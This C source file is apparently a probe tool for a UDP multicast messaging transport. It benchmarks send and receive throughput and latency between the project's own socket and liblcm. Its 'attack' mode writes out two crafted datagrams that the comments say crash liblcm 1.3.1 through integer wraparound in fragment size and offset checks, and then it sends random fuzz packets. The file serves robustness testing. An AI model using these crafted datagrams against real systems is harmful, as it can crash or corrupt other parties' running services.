/* kelp-lcmprobe: the udpm transport probed from outside, for interop tests and `make bench`.
 *
 *   kelp-lcmprobe send kelp|lcm N SIZE [RATE]   publish N messages of SIZE bytes (RATE msg/s, 0 = burst)
 *   kelp-lcmprobe recv kelp|lcm N [TIMEOUT_S]   receive until N or the timeout; check every byte
 *   kelp-lcmprobe attack N                      the two crafted datagrams, then N random ones
 *
 * "kelp" is kelp's own socket (kelp/edge/udpm.h), "lcm" is liblcm, so each side can be either.
 * A payload carries its sequence number and send time (CLOCK_MONOTONIC, one clock for every
 * process of the host) and a pattern derived from the sequence number, so the receiver
 * reports latency percentiles and counts corrupted messages. */
#include <arpa/inet.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <lcm/lcm.h>
#include <kelp/edge/cli.h>
#include <kelp/edge/udpm.h>
#include <kelp/lcmbus.h>
#include <kelp/mission.h>

#define PROBE_HDR 16 /* u64 seq, f64 send time */

static double mono(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + ts.tv_nsec * 1e-9;
}

static long num(const char *s)
{
    long v;
    if (kelp_util_parse_long(s, strlen(s), &v) < 0 || v < 0) {
        fprintf(stderr, "kelp-lcmprobe: '%s' is not a count\n", s);
        exit(2);
    }
    return v;
}

static uint8_t pattern(uint64_t seq, size_t i) { return (uint8_t)(seq * 131u + i * 7u); }

typedef struct probe {
    const char *chan;
    long want, got, corrupt;
    double first, last, *lat;
} probe;

static void take(probe *p, const uint8_t *d, size_t len)
{
    double now = mono();
    uint64_t seq;
    double sent;
    if (len < PROBE_HDR) {
        p->corrupt++;
        return;
    }
    memcpy(&seq, d, 8);
    memcpy(&sent, d + 8, 8);
    /* every 61st byte: a prime stride touches every fragment and keeps 60 KB checks cheap */
    for (size_t i = PROBE_HDR; i < len; i += (len > 4096 ? 61 : 1))
        if (d[i] != pattern(seq, i)) {
            p->corrupt++;
            return;
        }
    if (p->got == 0) p->first = now;
    p->last = now;
    if (p->got < p->want) p->lat[p->got] = (now - sent) * 1e6;
    p->got++;
}

static void on_lcm(const lcm_recv_buf_t *rb, const char *chan, void *user)
{
    (void)chan;
    take(user, rb->data, rb->data_size);
}

static int dcmp(const void *a, const void *b)
{
    double x = *(const double *)a, y = *(const double *)b;
    return x < y ? -1 : x > y;
}

static int do_send(const char *url, const char *chan, int use_lcm, long n, size_t size, double rate)
{
    kelp_diag err = {0};
    lcm_t *l = NULL;
    kelp_udpm_sock *s = NULL;
    if (use_lcm ? !(l = lcm_create(url)) : !(s = kelp_udpm_sock_open_tx(url, &err))) {
        fprintf(stderr, "kelp-lcmprobe: cannot open %s: %s\n", url, use_lcm ? "lcm_create failed" : kelp_diag_text(&err));
        return 1;
    }
    if (size < PROBE_HDR) size = PROBE_HDR;
    uint8_t *buf = malloc(size);
    long fails = 0;
    double t0 = mono();
    for (long i = 0; i < n; i++) {
        if (rate > 0) {
            double due = t0 + i / rate;
            while (mono() < due) {
                double gap = due - mono();
                if (gap > 200e-6) usleep((useconds_t)(gap * 1e6 / 2));
            }
        }
        uint64_t seq = (uint64_t)i;
        for (size_t k = PROBE_HDR; k < size; k++) buf[k] = pattern(seq, k);
        double now = mono();
        memcpy(buf, &seq, 8);
        memcpy(buf + 8, &now, 8);
        int rc = use_lcm ? lcm_publish(l, chan, buf, (unsigned)size) : kelp_udpm_sock_publish(s, chan, buf, size);
        if (rc != 0) fails++;
    }
    double dt = mono() - t0;
    printf("%s sent %ld x %zu B in %.3f s: %.0f msg/s (%ld failed)\n", use_lcm ? "liblcm" : "kelp", n, size, dt,
           dt > 0 ? n / dt : 0.0, fails);
    free(buf);
    if (l) lcm_destroy(l);
    kelp_udpm_sock_close(s);
    return fails ? 1 : 0;
}

static int do_recv(const char *url, const char *chan, int use_lcm, long n, double timeout)
{
    kelp_diag err = {0};
    static probe p;
    p.chan = chan;
    p.want = n;
    p.lat = calloc((size_t)n + 1, sizeof(double));
    lcm_t *l = NULL;
    kelp_udpm_sock *s = NULL;
    if (use_lcm ? !(l = lcm_create(url)) : !(s = kelp_udpm_sock_open(url, &err))) {
        fprintf(stderr, "kelp-lcmprobe: cannot open %s: %s\n", url, use_lcm ? "lcm_create failed" : kelp_diag_text(&err));
        return 1;
    }
    if (l) lcm_subscription_set_queue_capacity(lcm_subscribe(l, chan, on_lcm, &p), 0);
    printf("ready\n");
    fflush(stdout);
    double until = mono() + timeout;
    kelp_udpm_msg m;
    while (p.got < n && mono() < until) {
        if (l) {
            lcm_handle_timeout(l, 50);
            continue;
        }
        struct pollfd pf = { kelp_udpm_sock_fd(s), POLLIN, 0 };
        (void)poll(&pf, 1, 50);
        while (kelp_udpm_sock_next(s, &m) == 1)
            if (strcmp(m.channel, chan) == 0) take(&p, m.data, m.len);
    }
    double dt = p.last - p.first;
    printf("%s received %ld/%ld", use_lcm ? "liblcm" : "kelp", p.got, n);
    if (p.got > 1 && dt > 0) printf(" at %.0f msg/s", (p.got - 1) / dt);
    long k = p.got < n ? p.got : n;
    if (k > 0) {
        qsort(p.lat, (size_t)k, sizeof(double), dcmp);
        printf(" latency p50 %.0f us p99 %.0f us", p.lat[k / 2], p.lat[k * 99 / 100]);
    }
    printf(" corrupt %ld", p.corrupt);
    if (s) {
        kelp_udpm_sock_stats st;
        kelp_udpm_sock_get_stats(s, &st);
        printf(" (datagrams %llu bad %llu timeouts %llu queue_dropped %llu)", (unsigned long long)st.rx.datagrams,
               (unsigned long long)st.rx.bad, (unsigned long long)st.rx.timeouts, (unsigned long long)st.queue_dropped);
    }
    printf("\n");
    free(p.lat);
    if (l) lcm_destroy(l);
    kelp_udpm_sock_close(s);
    return p.got == n && p.corrupt == 0 ? 0 : 1;
}

/* The two datagrams that crash liblcm 1.3.1 (issue 12), then n random ones, half of them
 * with a valid magic so they reach the fragment and channel checks. */
static int do_attack(const char *url, long n)
{
    kelp_udpm_url u;
    if (kelp_udpm_url_parse(url, &u) < 0) {
        fprintf(stderr, "kelp-lcmprobe: bad URL %s\n", url);
        return 1;
    }
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    unsigned char ttl = (unsigned char)u.ttl;
    (void)setsockopt(fd, IPPROTO_IP, IP_MULTICAST_TTL, &ttl, sizeof ttl);
    struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(u.port), .sin_addr.s_addr = htonl(u.group) };
    uint8_t dg[1500];
    /* 1: a fragment shorter than its 20-byte header: liblcm's size wraps to ~4 GiB */
    uint8_t a[12];
    kelp_udpm_put_frag_header(dg, 1, 4096, 0, 0, 2);
    memcpy(a, dg, sizeof a);
    long sent = sendto(fd, a, sizeof a, 0, (struct sockaddr *)&to, sizeof to) == (ssize_t)sizeof a;
    /* 2: offset near 2^32: offset + size wraps past liblcm's 32-bit bounds check */
    kelp_udpm_put_frag_header(dg, 2, 4096, 0xffffff00u, 1, 2);
    memset(dg + KELP_UDPM_FRAG_HDR, 0x41, 300);
    sent += sendto(fd, dg, KELP_UDPM_FRAG_HDR + 300, 0, (struct sockaddr *)&to, sizeof to) > 0;
    srand(12);
    for (long i = 0; i < n; i++) {
        size_t len = (size_t)(rand() % (int)sizeof dg);
        for (size_t k = 0; k < len; k++) dg[k] = (uint8_t)rand();
        if (len >= 4 && (i % 2)) memcpy(dg, (i % 4 == 1) ? "LC03" : "LC02", 4);
        sent += sendto(fd, dg, len, 0, (struct sockaddr *)&to, sizeof to) >= 0;
        if (i % 256 == 255) usleep(1000); /* let receivers keep up: loss would hide nothing */
    }
    close(fd);
    printf("attack: sent %ld hostile datagrams\n", sent);
    return 0;
}

int main(int argc, char **argv)
{
    static const kelp_cli_opt opts[] = {
        { "lcm-url", required_argument, 'u', "URL", "the bus (default $KELP_LCM_URL or kelp's default)" },
        { "channel", required_argument, 'c', "CHANNEL", "channel (default PROBE)" },
        { NULL, 0, 0, NULL, NULL },
    };
    static const kelp_cli cli = {
        .name = "kelp-lcmprobe",
        .purpose = "Probes the udpm transport: kelp's own socket or liblcm on either side.",
        .synopsis = "[OPTIONS] send kelp|lcm N SIZE [RATE]\n[OPTIONS] recv kelp|lcm N [TIMEOUT_S]\n[OPTIONS] attack N",
        .opts = opts,
        .more = "send: N messages of SIZE bytes at RATE msg/s (0 = burst); recv: until N arrive or the\n"
                "timeout, checking every message (latency p50/p99, corrupt count); attack: the two\n"
                "crafted datagrams of issue 12, then N random datagrams.\n",
        .in_order = true,
    };
    const char *url_in = NULL, *chan = "PROBE";
    int o, status;
    while ((o = kelp_cli_next(&cli, argc, argv, &status)) != -1) {
        if (o == KELP_CLI_EXIT) return status;
        if (o == 'u') url_in = optarg;
        if (o == 'c') chan = optarg;
    }
    char url[600];
    if (kelp_lcmbus_url(url_in, url, sizeof url) < 0) return 1;
    if (url_in) snprintf(url, sizeof url, "%s", url_in);
    int rest = argc - optind;
    char **a = argv + optind;
    if (rest >= 2 && strcmp(a[0], "attack") == 0) return do_attack(url, num(a[1]));
    if (rest < 3 || (strcmp(a[1], "kelp") != 0 && strcmp(a[1], "lcm") != 0))
        return kelp_cli_error(&cli, "expected send|recv kelp|lcm N ...");
    int use_lcm = strcmp(a[1], "lcm") == 0;
    if (strcmp(a[0], "send") == 0 && rest >= 4)
        return do_send(url, chan, use_lcm, num(a[2]), (size_t)num(a[3]), rest > 4 ? (double)num(a[4]) : 0);
    if (strcmp(a[0], "recv") == 0) return do_recv(url, chan, use_lcm, num(a[2]), rest > 3 ? (double)num(a[3]) : 10);
    return kelp_cli_error(&cli, "unknown mode '%s'", a[0]);
}
